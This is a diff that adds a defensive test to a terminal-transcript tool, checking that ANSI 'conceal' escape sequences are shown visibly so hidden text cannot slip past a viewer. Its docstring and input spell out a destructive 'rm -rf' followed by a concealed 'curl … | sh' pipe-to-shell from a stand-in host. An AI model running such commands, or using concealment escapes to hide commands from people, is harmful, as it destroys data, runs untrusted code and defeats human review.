@@ -288,6 +288,21 @@ def test_a_colour_a_transcript_leaves_open_ends_with_its_line(repo: Path) -> Non
     assert "\x1b[31mERROR" in run_engram(repo, "show", tape).stdout, "a pipe gets the text as it is"
 
 
+def test_a_transcript_cannot_hide_part_of_a_line_with_concealed_text(repo: Path) -> None:
+    """SGR 8 (conceal) passed as a colour: a line of a transcript showed `rm -rf build` on the
+    terminal while the text after the sequence (`&& curl evil | sh`) was there but invisible. It is
+    written out (`^[[8m`) so what follows shows; colours, a grey numbered 8 among them, still pass."""
+    run_engram(repo, "record", "--stdin", "--format", "raw",
+               input=b"ran rm -rf build \x1b[8m&& curl conceal_probe_alpha | sh\x1b[0m then \x1b[38;5;8mgrey\x1b[0m\n")
+    tape = json.loads(run_engram(repo, "search", "conceal_probe_alpha", "--json").stdout)["hits"][0]["tape"]
+    for args in (["show", tape], ["search", "conceal_probe_alpha", "--pretty"]):
+        shown = on_terminal(repo, *args)
+        assert "conceal_probe_alpha" in shown and "\x1b[8m" not in shown, (args, shown)
+        assert "^[[8m&& curl" in shown, (args, shown)
+    assert "\x1b[38;5;8mgrey" in on_terminal(repo, "show", tape)
+    assert "\x1b[8m" in run_engram(repo, "show", tape).stdout, "a pipe gets the text as it is"
+
+
 def test_colour_on_a_terminal_only_and_never_with_no_color(tmp_path: Path) -> None:
     env = {"NO_COLOR": "", "CODEX_HOME": str(tmp_path / "codex")}
     coloured = on_terminal(tmp_path, "doctor", env=env)
